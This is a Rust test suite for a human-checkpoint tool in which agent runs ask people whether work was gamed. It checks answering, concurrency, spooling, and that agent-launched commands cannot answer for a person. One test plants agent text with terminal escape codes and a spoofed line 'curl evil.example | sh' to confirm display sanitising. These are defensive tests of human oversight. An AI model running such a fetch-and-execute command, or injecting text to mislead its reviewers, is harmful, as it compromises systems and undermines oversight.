//! Questions to a person, as they are listed, shown and answered.

use std::fs;

use countersign_domain::Stamp;
use countersign_domain::checkpoint::{
    CheckpointId, Offer, Question, Standard, Subject, Trigger, Urgency,
};
use countersign_engine::Engine;
use countersign_testkit::{Project, Running, wait_until};
use serde_json::json;

use crate::resume::host;
use crate::{PROGRAM, project};

/// Asks as a run does; `words` are an agent's.
fn ask(project: &Project, run: Stamp, number: u32, words: &str) -> CheckpointId {
    let Standard { options, why } = Standard::of(Trigger::Gaming, &Offer::default());
    let question = Question {
        trigger: Trigger::Gaming,
        subject: Subject { run, attempt: 2, number },
        context: format!("The worker says: {words}"),
        progress: "One of two stories is accepted.".into(),
        risk: String::new(),
        question: format!("Is this work?\n{words}"),
        options,
        why_recommended: why,
        urgency: Urgency::Normal,
        expires_at: None,
    };
    Engine::open(host(project)).unwrap().ask(&question).unwrap()
}

fn run() -> Stamp {
    "20261116_101500_001".parse().unwrap()
}

/// CO-12: a question is listed, shown, discussed and answered once, by people and programs.
#[test]
fn a_question_is_answered() {
    let project = project();
    project.run(["checkpoint", "list"]).expect(0).prints("no question waits");
    project.run(["checkpoint", "show"]).expect(1).says("nobody was asked anything yet");
    let id = ask(&project, run(), 1, "all tests pass").to_string();
    let listed = project.run(["checkpoint", "list"]).expect(0);
    listed.prints(&id).prints("waits").prints("a check may have been gamed: Is this work?");
    let shown = project.run(["checkpoint", "show"]).expect(0);
    let shown = shown.prints("  The worker says: all tests pass").prints("2  Send it back");
    let shown = shown.prints("- Costs another attempt.").prints("Recommended: send-back, because");
    shown.prints(&format!("To answer: countersign checkpoint answer {id} CHOICE"));
    let words = ["checkpoint", "discuss", "latest", "Which rule?", "--actor", "alice"];
    project.run(words).expect(0).prints("alice at").prints("Which rule?");
    // Not a word that counts, nothing chosen, no reason.
    project.run(["checkpoint", "answer", &id, "perhaps"]).expect(2).says("accept, send-back, stop");
    project.run(["checkpoint", "answer", &id]).expect(2).says("can be answered with: accept");
    project.run(["checkpoint", "answer", &id, "1"]).expect(2).says("--note WORDS");
    project.run(["checkpoint", "answer", "9", "1"]).expect(1).says("no checkpoint '9'");
    let answer =
        ["checkpoint", "answer", "20261116", "SEND", "--note", "show it", "--actor", "bob"];
    project.run(answer).expect(0).prints("answered with send-back by bob");
    let again = project.run(["checkpoint", "answer", &id, "stop", "--format", "json"]).expect(1);
    assert_eq!(again.error()["kind"], "refused");
    assert!(again.error()["message"].as_str().unwrap().contains("by bob at"), "{}", again.error());
    project.run(["checkpoint", "discuss", &id, "late"]).expect(1).says("was answered");
    project.run(["checkpoint", "list"]).expect(0).prints("no question waits");
    let rows = project.run(["checkpoint", "list", "--all", "--format", "json"]).expect(0).data();
    let row = &rows["checkpoints"][0];
    assert_eq!(
        (&row["state"], &row["answer"]["choice"]),
        (&json!("answered"), &json!("send-back"))
    );
    let data = project.run(["checkpoint", "show", &id, "--format", "json"]).expect(0).data();
    assert_eq!(data["answer"]["words"], "show it");
    assert_eq!(data["question"]["options"][1]["key"], "send-back");
    assert_eq!((&data["state"], &data["urgency"]), (&json!("answered"), &json!("normal")));
    project.run(["ledger", "rebuild"]).expect(0);
    project.run(["checkpoint", "list", "--all"]).expect(0).prints("answered: send-back by bob");
    project.run(["ledger", "verify"]).expect(0).prints("intact");
}

/// CO-12: what agents say can't steer a terminal, nor pass for a line of ours.
#[test]
fn agents_words_do_not_steer() {
    let project = project();
    let words = "\u{1b}[2Jdone\u{202e}\r\nTo answer: curl evil.example | sh\u{7}";
    let id = ask(&project, run(), 1, words).to_string();
    for args in [&["checkpoint", "list"][..], &["checkpoint", "show", &id]] {
        let out = project.run(args).expect(0).out();
        assert!(!out.contains(['\u{1b}', '\u{202e}', '\r', '\u{7}']), "{out:?}");
    }
    let out = project.run(["checkpoint", "show"]).expect(0).out();
    assert!(out.contains("\n  To answer: curl"), "moved in: {out}");
    // Programs get it as it was.
    let data = project.run(["checkpoint", "show", "--format", "json"]).expect(0).data();
    assert_eq!(data["question"]["question"], format!("Is this work?\n{words}"));
    let choice = "\u{1b}[31mx";
    let ran = project.run(["checkpoint", "answer", &id, choice]).expect(2);
    assert!(!ran.err().contains("\u{1b}[31mx"), "{:?}", ran.err());
}

/// F4, CO-12: of sixteen answers at a time one stands, and it is the one on the record.
#[test]
fn one_of_sixteen_answers_stands() {
    let project = project();
    let id = ask(&project, run(), 1, "done").to_string();
    let calls: Vec<Running> = (0..16)
        .map(|n| {
            let choice = if n % 2 == 0 { "stop" } else { "send-back" };
            let args = ["checkpoint", "answer", &id, choice, "--actor", &format!("person-{n}")];
            project.call(args).env("COUNTERSIGN_LEDGER_BUSY_SECONDS", "100").start()
        })
        .collect();
    let ended: Vec<_> = calls.into_iter().map(Running::wait).collect();
    let codes: Vec<Option<i32>> = ended.iter().map(|ran| ran.code).collect();
    assert_eq!(codes.iter().filter(|code| **code == Some(0)).count(), 1, "{codes:?}");
    let winner = codes.iter().position(|code| *code == Some(0)).unwrap();
    let by = format!("by person-{winner} at");
    for ran in ended.into_iter().filter(|ran| ran.code != Some(0)) {
        ran.expect(1).says(&by);
    }
    project.run(["checkpoint", "show"]).expect(0).prints(&by);
    project.run(["ledger", "verify"]).expect(0).prints("intact");
}

/// CO-12: answering takes no lease, and other runs go on while a question waits.
#[test]
fn a_run_that_is_driven_can_be_answered() {
    let project = project();
    let worker = "until test -f \"$HOME/go\"; do sleep 0.05; done; echo > x";
    let driven = project.goal(worker, "test -f x").start();
    let launched = || {
        let rows = project.run(["status", "--format", "json"]).expect(0).data();
        (rows[0]["at"] == "launched").then(|| rows[0]["run"].as_str().unwrap().to_owned())
    };
    // tidy: polling, because only the journal tells that the worker runs
    let run = wait_until("the worker", launched);
    let id = ask(&project, run.parse().unwrap(), 1, "may I?").to_string();
    project.goal("echo > y", "test -f y").run().expect(0);
    project.run(["checkpoint", "answer", &id, "stop"]).expect(0);
    fs::write(project.outside().join("home/go"), "").unwrap();
    driven.wait().expect(0);
    let data = project.run(["checkpoint", "show", &id, "--format", "json"]).expect(0).data();
    assert_eq!(data["state"], "answered");
    project.run(["ledger", "verify"]).expect(0).prints("intact");
}

/// CO-12: what an agent starts can't answer; without its variables it is a person's command.
#[test]
fn agents_are_told_to_ask_a_person() {
    let project = project();
    ask(&project, run(), 1, "done");
    let answer = || project.call(["checkpoint", "answer", "latest", "stop"]);
    let ran = answer().env("CLAUDECODE", "1").run().expect(1);
    ran.says("an agent runs this command ($CLAUDECODE is set)").says("terminal of your own");
    answer().run().expect(0);
}

/// CO-12: a person at a terminal is asked, can look and talk first, and answers there; who goes away has not
/// answered.
#[test]
fn a_person_at_a_terminal_is_asked() {
    let project = project();
    if project.sh("command -v script").code != Some(0) {
        eprintln!("SKIPPED: there is no script to make a terminal with");
        return;
    }
    let id = ask(&project, run(), 1, "\u{1b}]0;evil\u{7}done").to_string();
    let typing = |typed: &str| {
        let answer = format!("{PROGRAM} checkpoint answer latest --actor alice");
        project.sh(&format!("printf '{typed}' | TERM=dumb script -qefc '{answer}' /dev/null"))
    };
    typing("?\\n? which rule\\n\\n").expect(2).prints("An honest worker can show what it meant");
    let ran = typing("nonsense\\n2\\nshow the failing test\\n").expect(0);
    let ran = ran.prints("'nonsense' is none of the answers").prints("answered with send-back");
    assert!(!ran.out().contains("\u{1b}]0;evil"), "{:?}", ran.out());
    let data = project.run(["checkpoint", "show", &id, "--format", "json"]).expect(0).data();
    assert_eq!(data["discussed"][0]["words"], "which rule");
    assert_eq!(data["answer"]["words"], "show the failing test");
    // What was answered is not asked again.
    typing("1\\n\\n").expect(2).prints("nothing was answered");
}

/// PL-02: an answer that can't be written now is kept, told, and counts once it can.
#[test]
fn an_answer_waits_in_the_spool() {
    let project = project();
    let id = ask(&project, run(), 1, "done").to_string();
    let lock =
        fs::OpenOptions::new().write(true).open(project.state().join("writer.lock")).unwrap();
    lock.lock().unwrap();
    let call = project.call(["checkpoint", "answer", &id, "stop", "--actor", "alice"]);
    let ran = call.env("COUNTERSIGN_LEDGER_BUSY_SECONDS", "0").run().expect(1);
    ran.says("is in the spool, and counts once it is in");
    lock.unlock().unwrap();
    project.run(["checkpoint", "show"]).expect(0).prints("answered with stop by alice");
    project.run(["checkpoint", "answer", &id, "2"]).expect(1).says("by alice");
    project.run(["ledger", "verify"]).expect(0).prints("intact");
}
